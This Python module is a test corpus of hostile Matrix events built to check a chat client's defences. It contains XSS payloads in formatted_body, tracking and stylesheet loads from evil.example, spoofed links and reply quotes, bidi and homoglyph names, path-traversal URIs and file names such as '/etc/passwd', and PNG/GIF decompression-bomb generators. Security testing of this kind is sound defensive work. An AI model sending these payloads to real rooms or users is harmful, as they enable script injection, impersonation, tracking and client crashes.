"""A fixed corpus of known attacks on a Matrix client, each entry named for what it tries.

Entries are events a hostile member can send: HTML attacks in ``formatted_body``, bidi and
homoglyph names, traversal URIs and file names, absurd sizes, and pictures that are bombs.
``upload:<name>`` in a ``url`` stands for a file of :func:`uploads` (a test uploads it and puts
the real ``mxc://`` there; :func:`offline` puts a made-up one). Entries a homeserver refuses
(bigger than 64 KiB, integers JSON canonicalisation refuses) are marked ``fits_server=False``:
only the offline pipeline sees them.

The image bombs are made with Pillow when asked — a few kilobytes each, never committed.
"""

from __future__ import annotations

import io
import json
import struct
import zlib
from dataclasses import dataclass, field
from typing import Any

from PIL import Image

HTML = "org.matrix.custom.html"
UPLOAD = "upload:"
MAX_EVENT_BYTES = 60_000
"""Below Synapse's 65536-byte limit on a whole event (its envelope and signatures included)."""
SERVER_INTEGERS = 2**53 - 1
"""Canonical JSON (room versions 6+) refuses integers beyond ±(2**53 - 1)."""


@dataclass(frozen=True)
class Entry:
    name: str
    """What it tries, for test ids and failure messages."""
    event_type: str
    content: dict[str, Any]
    state_key: str | None = None
    fits_server: bool = True
    tags: tuple[str, ...] = field(default=())


def _html(name: str, formatted: str, body: str = "text", msgtype: str = "m.text") -> Entry:
    content = {"msgtype": msgtype, "body": body, "format": HTML, "formatted_body": formatted}
    return Entry(f"html: {name}", "m.room.message", content, tags=("html",))


def html_attacks() -> list[Entry]:
    nested = "<div>" * 4000 + "deep" + "</div>" * 4000
    return [
        _html("script", "<script>alert(1)</script>hello<script src='http://evil.example/x.js'></script>"),
        _html(
            "event handlers",
            "<b onmouseover=alert(1)>hover</b><img src=x onerror=alert(1)><div onclick=alert(1)>d</div>",
        ),
        _html("nested 4000 deep", nested),
        _html("unclosed tags", "<b><i><u><a href='https://ok.example'>unclosed <table><tr><td>cell"),
        _html(
            "css expression",
            "<div style='width:expression(alert(1));background:url(javascript:alert(1))'>css</div>",
        ),
        _html(
            "style sheet",
            "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example/b.png)}</style>styled",
        ),
        _html(
            "svg with script",
            "<svg onload=alert(1)><script>alert(1)</script><image href='http://evil.example/s.png'/></svg>svg",
        ),
        _html("math xlink", "<math><mi xlink:href='javascript:alert(1)'>m</mi></math>math"),
        _html("meta refresh", "<meta http-equiv='refresh' content='0;url=http://evil.example'>refresh"),
        _html(
            "base and link",
            "<base href='http://evil.example/'><link rel=stylesheet href='http://evil.example/x.css'>base",
        ),
        _html(
            "iframe object embed",
            "<iframe src='http://evil.example'></iframe><object data='http://evil.example/o'></object><embed src='http://evil.example/e'>frames",
        ),
        _html(
            "img http",
            "<img src='http://evil.example/track.png' width=1 height=1><img src='https://evil.example/b.png'>pixels",
        ),
        _html(
            "img srcset and protocol relative",
            "<img srcset='http://evil.example/1x.png 1x' src='//evil.example/p.png'>srcset",
        ),
        _html(
            "emoticon from the web",
            "<img data-mx-emoticon src='http://evil.example/e.png' alt=':e:' height=32>emote",
        ),
        _html(
            "link javascript",
            "<a href='javascript:alert(document.cookie)'>click</a> <a href='JaVaScRiPt:alert(1)'>again</a>",
        ),
        _html(
            "link javascript with whitespace",
            "<a href=' javascript:alert(1)'>one</a><a href='jav&#x09;ascript:alert(1)'>two</a>",
        ),
        _html("link data", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>data</a>"),
        _html(
            "link file and qrc", "<a href='file:///etc/passwd'>file</a> <a href='qrc:/qml/Main.qml'>qrc</a>"
        ),
        _html("misleading link", "<a href='https://evil.example/login'>https://bank.example/login</a>"),
        _html("misleading pill", "<a href='https://matrix.to/#/@troll:hs'>Admin</a> says hi"),
        _html(
            "reply fallback spoof",
            "<mx-reply><blockquote><a href='https://matrix.to/#/@admin:hs'>admin</a> said yes</blockquote>"
            "</mx-reply>fake quote",
        ),
        _html(
            "comments and cdata",
            "<!--<img src=http://evil.example/c.png>--><![CDATA[<script>x</script>]]>after",
        ),
        _html(
            "colour injection",
            "<span data-mx-color='red;background:url(http://evil.example/c)' data-mx-bg-color='#ff0000'>"
            "colour</span>",
        ),
        _html("entity script", "&lt;script&gt;alert(1)&lt;/script&gt; and &#x3C;img src=http://x&#x3E;"),
        _html("bidi in html", "<b>\u202eevil\u202c</b> \u2067unclosed isolate <i>\u202dtail"),
        _html("empty after sanitizing", "<script>x</script><style>y</style>", body=""),
        _html("emote", "<b>waves</b><script>x</script>", body="waves", msgtype="m.emote"),
        Entry(
            "html: one megabyte",
            "m.room.message",
            {"msgtype": "m.text", "body": "big", "format": HTML, "formatted_body": "<b>x</b>" * 131_072},
            fits_server=False,
            tags=("html",),
        ),
    ]


RLO_NAME = "\u202eredli\u0430h"
HOMOGLYPH_NAME = "\u0430dmin"
ZWJ_NAME = "ad\u200dmin\u200b"
LONG_NAME = "L" * 10_000


def names(attacker: str) -> list[Entry]:
    """Display names and room names that try to pass for someone or reorder the line."""
    found: list[Entry] = []
    for label, name in (
        ("right-to-left override", RLO_NAME),
        ("Cyrillic a", HOMOGLYPH_NAME),
        ("zero-width joiner", ZWJ_NAME),
        ("10k characters", LONG_NAME),
        ("256 characters", "\u0430" * 255 + "\u202e"),
        ("only invisible", "\u200b\u200d\u2060"),
        ("newlines", "Line\nbreak\u2028name"),
    ):
        member = {"membership": "join", "displayname": name}
        # Synapse takes display names of up to 256 characters; other servers may not check
        fits = len(name) <= 256
        found.append(Entry(f"display name: {label}", "m.room.member", member, attacker, fits, ("name",)))
        found.append(
            Entry(f"room name: {label}", "m.room.name", {"name": name}, state_key="", tags=("name",))
        )
    found.append(Entry("topic: 10k bidi", "m.room.topic", {"topic": "\u202e" * 5000 + "topic"}, state_key=""))
    found.append(
        Entry("message: bidi body", "m.room.message", {"msgtype": "m.text", "body": "pay \u202e01$ \u2066x"})
    )
    found.append(
        Entry("message: zalgo", "m.room.message", {"msgtype": "m.text", "body": "Z" + "\u0301\u0489" * 2000})
    )
    found.append(
        Entry(
            "message: emoji ZWJ",
            "m.room.message",
            {"msgtype": "m.text", "body": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 500},
        )
    )
    found.append(Entry("message: NUL", "m.room.message", {"msgtype": "m.text", "body": "a\x00b\x00"}))
    found.append(
        Entry("message: 20k characters", "m.room.message", {"msgtype": "m.text", "body": "w " * 10_000})
    )
    return found


TRAVERSAL_URIS = (
    "mxc://hs/../../etc/passwd",
    "mxc://../config",
    "mxc://hs/a%2F..%2F..%2Fb",
    "mxc://hs/a\\..\\b",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://evil.example/x.png",
    "https://evil.example/x.png",
    "data:image/png;base64,iVBORw0KGgo=",
)
TRAVERSAL_NAMES = (
    "../../.bashrc",
    "..\\..\\AppData\\Roaming\\evil.bat",
    "/etc/passwd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "con.txt",
    "CON .txt",
    "LPT1",
    "a\x00b.txt",
    "line\nbreak\r\nname.txt",
    "photo\u202egnp.exe",
    "n" * 1000 + ".txt",
    "..",
    ".hidden",
)


def traversal() -> list[Entry]:
    found = [
        Entry(f"url: {uri}", "m.room.message", {"msgtype": kind, "body": "pic.png", "url": uri})
        for uri in TRAVERSAL_URIS
        for kind in ("m.image", "m.file")
    ]
    found += [
        Entry(
            f"file name: {name[:40]!r}",
            "m.room.message",
            {
                "msgtype": "m.file",
                "body": name,
                "filename": name,
                "url": UPLOAD + "text",
                "info": {"size": 19},
            },
            tags=("download",),
        )
        for name in TRAVERSAL_NAMES
    ]
    found.append(
        Entry(
            "thumbnail url",
            "m.room.message",
            {
                "msgtype": "m.video",
                "body": "v.mp4",
                "url": UPLOAD + "text",
                "info": {"thumbnail_url": "mxc://../thumbnail", "w": 10, "h": 10},
            },
        )
    )
    found.append(Entry("room avatar url", "m.room.avatar", {"url": "mxc://../x"}, state_key=""))
    found.append(
        Entry(
            "sticker url",
            "m.sticker",
            {"body": "s", "url": "https://evil.example/s.png", "info": {"w": 64, "h": 64}},
        )
    )
    return found


def sizes() -> list[Entry]:
    big = SERVER_INTEGERS
    return [
        Entry(
            "image 2**31 square",
            "m.room.message",
            {
                "msgtype": "m.image",
                "body": "i.png",
                "url": UPLOAD + "small_png",
                "info": {"w": 2**31, "h": 2**31, "size": -1, "mimetype": "image/png"},
            },
        ),
        Entry(
            "image negative",
            "m.room.message",
            {
                "msgtype": "m.image",
                "body": "i.png",
                "url": UPLOAD + "small_png",
                "info": {"w": -5, "h": 0, "size": big},
            },
        ),
        Entry(
            "image sizes as strings",
            "m.room.message",
            {
                "msgtype": "m.image",
                "body": "i.png",
                "url": UPLOAD + "small_png",
                "info": {"w": "400", "h": [1], "size": {"x": 1}, "mimetype": ["image/gif"]},
            },
        ),
        Entry(
            "video huge duration",
            "m.room.message",
            {
                "msgtype": "m.video",
                "body": "v.mp4",
                "url": UPLOAD + "text",
                "info": {"duration": big, "w": 10**9, "h": 1},
            },
        ),
        Entry(
            "voice huge waveform",
            "m.room.message",
            {
                "msgtype": "m.audio",
                "body": "a.ogg",
                "url": UPLOAD + "text",
                "org.matrix.msc3245.voice": {},
                "org.matrix.msc1767.audio": {"duration": -1, "waveform": [big, -big, 1.5, "x"] * 2500},
            },
        ),
        Entry(
            "file size huge",
            "m.room.message",
            {"msgtype": "m.file", "body": "f.bin", "url": UPLOAD + "text", "info": {"size": big}},
        ),
        Entry(
            "timestamp 2**63",
            "m.room.message",
            {
                "msgtype": "m.image",
                "body": "i",
                "url": UPLOAD + "small_png",
                "info": {"w": 2**63, "h": 2**64, "size": -(2**63) - 1},
            },
            fits_server=False,
        ),
        # Synapse refuses JSON nested deeper than 128 levels; the app's own writer stops at 255
        Entry("nested 120 deep", "m.room.message", {"msgtype": "m.text", "body": "deep", "x": _nested(120)}),
        Entry(
            "nested 300 deep",
            "m.room.message",
            {"msgtype": "m.text", "body": "deep", "x": _nested(300)},
            fits_server=False,
        ),
    ]


def bombs() -> list[Entry]:
    """Pictures that would take gigabytes decoded, each with a modest ``info`` so the client
    tries to show it."""
    info = {"w": 200, "h": 200, "mimetype": "image/png"}
    return [
        Entry(
            "bomb: png declaring 50000x50000",
            "m.room.message",
            {"msgtype": "m.image", "body": "b1.png", "url": UPLOAD + "png_header_bomb", "info": info},
            tags=("bomb",),
        ),
        Entry(
            "bomb: png 12000x12000 of zeros",
            "m.room.message",
            {"msgtype": "m.image", "body": "b2.png", "url": UPLOAD + "png_zip_bomb", "info": info},
            tags=("bomb",),
        ),
        Entry(
            "bomb: gif declaring 65535x65535",
            "m.room.message",
            {
                "msgtype": "m.image",
                "body": "b3.gif",
                "url": UPLOAD + "gif_bomb",
                "info": {**info, "mimetype": "image/gif"},
            },
            tags=("bomb",),
        ),
        Entry(
            "bomb: sticker",
            "m.sticker",
            {"body": "b4", "url": UPLOAD + "png_header_bomb", "info": info},
            tags=("bomb",),
        ),
        Entry(
            "not an image: svg with script",
            "m.room.message",
            {"msgtype": "m.image", "body": "s.png", "url": UPLOAD + "svg", "info": info},
            tags=("bomb",),
        ),
    ]


def _nested(depth: int) -> Any:
    value: Any = "bottom"
    for _ in range(depth):
        value = {"a": value}
    return value


def corpus(attacker: str = "@troll:hs") -> list[Entry]:
    entries = [*html_attacks(), *names(attacker), *traversal(), *sizes(), *bombs()]
    return [e if len(json.dumps(e.content)) < MAX_EVENT_BYTES else _too_big(e) for e in entries]


def _too_big(entry: Entry) -> Entry:
    return Entry(entry.name, entry.event_type, entry.content, entry.state_key, False, entry.tags)


# -- uploads -------------------------------------------------------------------------------------


def _png(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (2, 2), (200, 30, 30)).save(out, "PNG")
    data = bytearray(out.getvalue())
    ihdr = 8 + 8  # signature, then the IHDR chunk's length and type
    data[ihdr : ihdr + 8] = struct.pack(">II", width, height)
    crc = zlib.crc32(bytes(data[ihdr - 4 : ihdr + 13]))
    data[ihdr + 13 : ihdr + 17] = struct.pack(">I", crc)
    return bytes(data)


def _zeros_png(side: int) -> bytes:
    out = io.BytesIO()
    Image.new("1", (side, side), 0).save(out, "PNG", optimize=True)
    return out.getvalue()


def _gif(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("P", (1, 1), 0).save(out, "GIF")
    data = bytearray(out.getvalue())
    data[6:10] = struct.pack("<HH", width, height)  # the logical screen
    descriptor = data.index(b",", 13)
    data[descriptor + 5 : descriptor + 9] = struct.pack("<HH", width, height)  # the one frame
    return bytes(data)


def uploads() -> dict[str, tuple[bytes, str]]:
    """name → (bytes, content type) for the ``upload:<name>`` entries."""
    small = io.BytesIO()
    Image.new("RGB", (40, 30), (20, 120, 200)).save(small, "PNG")
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
    return {
        "text": (b"minutes of meeting\n", "text/plain"),
        "small_png": (small.getvalue(), "image/png"),
        "png_header_bomb": (_png(50_000, 50_000), "image/png"),
        "png_zip_bomb": (_zeros_png(12_000), "image/png"),
        "gif_bomb": (_gif(65_535, 65_535), "image/gif"),
        "svg": (svg, "image/png"),
    }


def with_uploads(content: Any, uris: dict[str, str]) -> Any:
    """``content`` with every ``upload:<name>`` replaced by ``uris[name]``."""
    if isinstance(content, str) and content.startswith(UPLOAD):
        return uris[content.removeprefix(UPLOAD)]
    if isinstance(content, dict):
        return {k: with_uploads(v, uris) for k, v in content.items()}
    if isinstance(content, list):
        return [with_uploads(v, uris) for v in content]
    return content


def offline(attacker: str = "@troll:hs", ts: int = 1_700_000_000_000) -> list[dict[str, Any]]:
    """The whole corpus as timeline events of one room, without a server (made-up media)."""
    uris = {name: f"mxc://hs/{name}" for name in uploads()}
    events = []
    for number, entry in enumerate(corpus(attacker)):
        event: dict[str, Any] = {
            "type": entry.event_type,
            "event_id": f"$corpus{number}",
            "sender": attacker,
            "origin_server_ts": ts + number,
            "content": with_uploads(entry.content, uris),
        }
        if entry.state_key is not None:
            event["state_key"] = entry.state_key
        events.append(event)
    return events
